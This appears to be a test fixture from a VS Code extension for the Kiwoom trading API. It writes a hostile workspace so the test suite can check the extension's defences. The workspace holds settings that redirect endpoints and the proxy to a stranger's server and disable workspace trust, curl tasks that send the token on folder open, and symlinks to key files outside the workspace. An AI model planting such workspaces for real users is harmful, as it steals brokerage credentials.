import { mkdir, symlink, writeFile } from 'node:fs/promises';
import path from 'node:path';
import type { Account } from '../simulator/accounts.ts';

export interface HostileWorkspaceOptions {
  readonly folder: string;
  /** The stranger's server. */
  readonly url: string;
  /** A folder of the user's outside of the workspace, which links lead to. */
  readonly outside: string;
  /** Whose keys lie in that folder, behind links of the workspace. */
  readonly linked: readonly Account[];
}

/** Settings that would send keys elsewhere, switch injections on or off, and let nothing be noticed. */
export function hostileSettings(url: string, injects: boolean): object {
  return {
    'kiwoom.endpoints.mock': url,
    'kiwoom.endpoints.real': url,
    'kiwoom.injection.processEnv': injects,
    'kiwoom.injection.terminal': true,
    'kiwoom.restClient.tokenInSettings': true,
    'kiwoom.tokenStorage': 'memory',
    'kiwoom.revokeOnExit': true,
    'kiwoom.renewal.strategy': 'revokeAndIssue',
    'kiwoom.renewal.leadMinutes': 1380,
    'kiwoom.secretWarnings': false,
    'rest-client.environmentVariables': {
      'kiwoom-mock': { kiwoomHost: url },
      'kiwoom-real': { kiwoomHost: url },
    },
    'task.allowAutomaticTasks': 'on',
    'security.workspace.trust.enabled': false,
    'http.proxy': url,
    'http.proxySupport': 'override',
    'http.noProxy': [],
  };
}

/** Everything that a workspace from a stranger can try at once; `ran` is the file that its tasks would leave. */
export async function writeHostileWorkspace(options: HostileWorkspaceOptions): Promise<void> {
  const { folder, url, outside, linked } = options;
  const at = (name: string): string => path.join(folder, name);
  await mkdir(at('.vscode'), { recursive: true });
  const settings = hostileSettings(url, false);
  const json: Record<string, object> = {
    '.vscode/settings.json': settings,
    '.vscode/tasks.json': tasks(url, at('1_appkey.txt')),
    '.vscode/launch.json': launch(url),
    'stranger.code-workspace': { folders: [{ path: '.' }], settings },
  };
  for (const [name, content] of Object.entries(json)) {
    await writeFile(at(name), JSON.stringify(content));
  }
  await writeFile(at('.env'), 'KIWOOM_APPKEY=stranger\nKIWOOM_SECRETKEY=stranger\nENV=prod\n');
  await writeFile(
    at('attack.http'),
    `POST ${url}/api/dostk/acnt\nAuthorization: Bearer {{$processEnv KIWOOM_TOKEN}}\napi-id: ka00001\n\n{}\n`,
  );
  await writeFile(path.join(outside, '.bashrc'), '# mine\n');
  await symlink(path.join(outside, '.bashrc'), at('.gitignore'));
  for (const [index, { appkey, secretkey }] of linked.entries()) {
    for (const [name, key] of Object.entries({ appkey, secretkey })) {
      const file = `${index + 1}_${name}.txt`;
      await writeFile(path.join(outside, file), key);
      await symlink(path.join(outside, file), at(file));
    }
  }
}

/** Tasks that run when the folder is opened, and commands of this extension that run to fill them in. */
function tasks(url: string, keyFile: string): object {
  const keys = { appkey: 'stranger', secretkey: 'stranger' };
  const inputs = {
    add: ['kiwoom.addProfile', { environment: 'mock', label: 'stranger', ...keys }],
    import: ['kiwoom.importKeyFiles', { file: keyFile, environment: 'mock' }],
    issue: ['kiwoom.issueToken', {}],
    copy: ['kiwoom.copyToken', {}],
    revoke: ['kiwoom.revokeAll', { confirmed: true }],
    remove: ['kiwoom.removeProfile', { revoke: false }],
  } as const;
  return {
    version: '2.0.0',
    inputs: Object.entries(inputs).map(([id, [command, args]]) => ({
      id,
      type: 'command',
      command,
      args,
    })),
    tasks: Object.keys(inputs).map((id) => ({
      label: id,
      type: 'shell',
      command: `curl ${url}/$KIWOOM_TOKEN/\${input:${id}}/\${command:kiwoom.issueToken}`,
      options: { env: { KIWOOM_TOKEN: '${env:KIWOOM_TOKEN}' } },
      runOptions: { runOn: 'folderOpen' },
    })),
  };
}

function launch(url: string): object {
  const configuration = {
    type: 'node',
    request: 'launch',
    name: 'run',
    program: '${workspaceFolder}/${command:kiwoom.copyToken}.js',
    env: { TOKEN: '${env:KIWOOM_TOKEN}', URL: url },
  };
  return { version: '0.2.0', configurations: [configuration] };
}
